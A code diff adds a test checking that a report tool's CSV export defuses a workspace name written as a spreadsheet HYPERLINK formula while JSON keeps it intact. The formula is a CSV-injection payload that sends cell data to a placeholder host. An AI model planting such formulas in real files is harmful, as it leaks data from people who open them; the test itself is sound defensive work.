@@ -111,3 +111,14 @@ def test_standard_output_holds_the_report_and_nothing_else(installation: Runtime
     asked = [*command, "--format", "csv"]
     done = subprocess.run(asked, env=environment, check=True, capture_output=True, text=True, timeout=60)
     assert done.stdout == "day,credit_cents,seconds,sessions\n2026-01-01,21600,129600,2\n"
+
+
+def test_a_name_that_is_a_formula_is_safe_in_the_csv_and_itself_in_json(installation: Runtime) -> None:
+    formula = '=HYPERLINK("http://x.invalid/"&A1,"open")'
+    with installation.transaction() as connection:
+        record(connection, stopped_report(HOUR, workspace_id=formula))
+    by = ("--by", "workspace_id")
+    names = [row["workspace_id"] for row in csv.DictReader(io.StringIO(run(*by, "--format", "csv").stdout))]
+    assert f"'{formula}" in names
+    assert formula not in names
+    assert formula in [json.loads(line)["workspace_id"] for line in run(*by, "--format", "json").stdout.splitlines()]
